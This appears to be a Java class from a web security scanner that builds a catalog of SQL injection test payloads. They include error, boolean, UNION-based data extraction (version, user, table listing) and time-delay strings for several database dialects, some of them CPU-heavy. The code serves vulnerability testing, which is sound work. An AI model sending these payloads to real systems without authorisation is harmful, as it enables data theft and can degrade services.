package webscan.payload;

import webscan.model.DetectionStrategy;
import webscan.model.Severity;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;

/**
 * Каталог полезных нагрузок SQL инъекций.
 *
 * <p>Содержит нагрузки четырех стратегий:
 * <ul>
 *   <li>error: разрывы кавычек и синтаксиса, вызывающие ошибки СУБД</li>
 *   <li>boolean: истинные и ложные условия {@code OR}/{@code AND}</li>
 *   <li>union: {@code UNION SELECT NULL,...} с растущим числом колонок и
 *       извлечение метаданных ({@code version()}, {@code database()}, {@code user()})</li>
 *   <li>time: задержки для каждого диалекта ({@code SLEEP}, {@code pg_sleep},
 *       {@code WAITFOR DELAY}, {@code DBMS_PIPE}) и тяжелые резервные запросы</li>
 * </ul>
 */
public final class SqlInjectionPayloads {
    public static final String CWE_ID = "CWE-89";

    private static final String DELAY = "{delay}";

    private SqlInjectionPayloads() {
    }

    /**
     * @param maxUnionColumns highest column count probed by {@code UNION SELECT NULL} payloads
     * @param baseDelaySeconds delay injected by time-based payloads
     */
    public static PayloadCatalog catalog(int maxUnionColumns, int baseDelaySeconds) {
        if (maxUnionColumns < 1) {
            throw new IllegalArgumentException("maxUnionColumns must be at least 1");
        }
        if (baseDelaySeconds < 1) {
            throw new IllegalArgumentException("baseDelaySeconds must be at least 1");
        }

        List<Payload> payloads = new ArrayList<>();
        payloads.addAll(errorPayloads());
        payloads.addAll(booleanPayloads());
        payloads.addAll(unionPayloads(maxUnionColumns));
        payloads.addAll(timePayloads(baseDelaySeconds));
        return new PayloadCatalog(payloads);
    }

    public static PayloadCatalog defaultCatalog() {
        return catalog(5, 2);
    }

    private static List<Payload> errorPayloads() {
        return List.of(
            error("Single Quote", "'", "Unbalanced single quote"),
            error("Double Quote", "\"", "Unbalanced double quote"),
            error("Quote Parenthesis", "')", "Single quote closing a parenthesised expression"),
            error("Double Quote Parenthesis", "\"))", "Double quote closing nested parentheses"),
            error("Backslash", "\\", "Escape character breaking the string literal"),
            error("Quote Semicolon", "';", "Statement terminator after quote"),
            error("Mixed Quotes", "1'\"", "Mixed quote characters"),
            error("Order By Overflow", "1' ORDER BY 9999--", "ORDER BY with a non-existent column index"),
            error("Extractvalue", "' AND extractvalue(1,concat(0x7e,version()))--", "MySQL XPath error carrying the version")
        );
    }

    private static List<Payload> booleanPayloads() {
        return List.of(
            bool("Boolean OR True", "' OR '1'='1", "OR condition that is always true"),
            bool("Boolean OR True Prefixed", "1' OR '1'='1", "OR true condition after a valid value"),
            bool("Boolean AND True", "1' AND '1'='1", "AND condition that is always true"),
            bool("Boolean AND False", "1' AND '1'='2", "AND condition that is always false"),
            bool("Boolean AND True Comment", "' AND 1=1 -- ", "Commented AND true condition"),
            bool("Boolean AND False Comment", "' AND 1=2 -- ", "Commented AND false condition"),
            bool("Numeric OR True", "1 OR 1=1", "Numeric context OR true condition"),
            bool("Numeric AND False", "1 AND 1=2", "Numeric context AND false condition")
        );
    }

    private static List<Payload> unionPayloads(int maxUnionColumns) {
        List<Payload> payloads = new ArrayList<>();
        for (int columns = 1; columns <= maxUnionColumns; columns++) {
            String nulls = String.join(",", Collections.nCopies(columns, "NULL"));
            payloads.add(union("Union " + columns + " Column(s)", "' UNION SELECT " + nulls + "--",
                "UNION probe with " + columns + " NULL column(s)"));
        }
        payloads.add(union("Union Version", "1' UNION SELECT null,version()--", "Database version extraction"));
        payloads.add(union("Union Database", "1' UNION SELECT null,database()--", "Current database name extraction"));
        payloads.add(union("Union User", "1' UNION SELECT null,user()--", "Current database user extraction"));
        payloads.add(union("Union MSSQL Version", "' UNION SELECT @@version--", "@@version extraction"));
        payloads.add(union("Union Tables", "' UNION SELECT table_name,NULL FROM information_schema.tables--",
            "Table listing from information_schema"));
        return payloads;
    }

    private static List<Payload> timePayloads(int baseDelaySeconds) {
        List<Payload> payloads = new ArrayList<>(List.of(
            time("MySQL Sleep", "1' AND SLEEP(" + DELAY + ")-- ", DatabaseDialect.MYSQL, false),
            time("MySQL Sleep Subquery", "' AND (SELECT * FROM (SELECT(SLEEP(" + DELAY + ")))a)-- ", DatabaseDialect.MYSQL, false),
            time("MySQL Sleep OR", "' OR SLEEP(" + DELAY + ")#", DatabaseDialect.MYSQL, false),
            time("PostgreSQL pg_sleep", "1'; SELECT pg_sleep(" + DELAY + ")--", DatabaseDialect.POSTGRESQL, false),
            time("PostgreSQL pg_sleep Concat", "' || pg_sleep(" + DELAY + ")--", DatabaseDialect.POSTGRESQL, false),
            time("MSSQL Waitfor", "'; WAITFOR DELAY '0:0:" + DELAY + "'--", DatabaseDialect.MSSQL, false),
            time("Oracle Receive Message", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a'," + DELAY + ")--", DatabaseDialect.ORACLE, false),

            // CPU-heavy fallbacks
            time("MySQL Cross Join Sleep",
                "' AND (SELECT COUNT(*) FROM (SELECT 1 UNION SELECT 2 UNION SELECT 3)a, " +
                "(SELECT 1 UNION SELECT 2 UNION SELECT 3)b, (SELECT 1 UNION SELECT 2 UNION SELECT 3)c " +
                "WHERE SLEEP(" + DELAY + "))-- ", DatabaseDialect.MYSQL, true),
            time("MySQL Information Schema Cross Join",
                "' AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, " +
                "information_schema.columns C)>0-- ", DatabaseDialect.MYSQL, true),
            time("PostgreSQL Generate Series",
                "' AND (SELECT COUNT(*) FROM generate_series(1,30000000))>0 AND pg_sleep(" + DELAY + ") IS NOT NULL--",
                DatabaseDialect.POSTGRESQL, true),
            time("SQLite Randomblob",
                "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--", DatabaseDialect.SQLITE, true)
        ));

        String delay = String.valueOf(baseDelaySeconds);
        List<Payload> rendered = new ArrayList<>();
        for (Payload payload : payloads) {
            rendered.add(Payload.builder()
                .name(payload.getName())
                .value(payload.getValue().replace(DELAY, delay))
                .strategy(DetectionStrategy.TIME)
                .risk(payload.getRisk())
                .description(payload.getDescription())
                .cweId(CWE_ID)
                .dialect(payload.getDialect().orElse(null))
                .aggressive(payload.isAggressive())
                .build());
        }
        return rendered;
    }

    private static Payload error(String name, String value, String description) {
        return Payload.builder()
            .name(name).value(value).strategy(DetectionStrategy.ERROR)
            .risk(Severity.HIGH).description(description).cweId(CWE_ID)
            .build();
    }

    private static Payload bool(String name, String value, String description) {
        return Payload.builder()
            .name(name).value(value).strategy(DetectionStrategy.BOOLEAN)
            .risk(Severity.HIGH).description(description).cweId(CWE_ID)
            .build();
    }

    private static Payload union(String name, String value, String description) {
        return Payload.builder()
            .name(name).value(value).strategy(DetectionStrategy.UNION)
            .risk(Severity.CRITICAL).description(description).cweId(CWE_ID)
            .build();
    }

    private static Payload time(String name, String value, DatabaseDialect dialect, boolean aggressive) {
        return Payload.builder()
            .name(name).value(value).strategy(DetectionStrategy.TIME)
            .risk(Severity.HIGH)
            .description((aggressive ? "CPU-heavy delay for " : "Time delay for ") + dialect.getDisplayName())
            .dialect(dialect).aggressive(aggressive).cweId(CWE_ID)
            .build();
    }
}
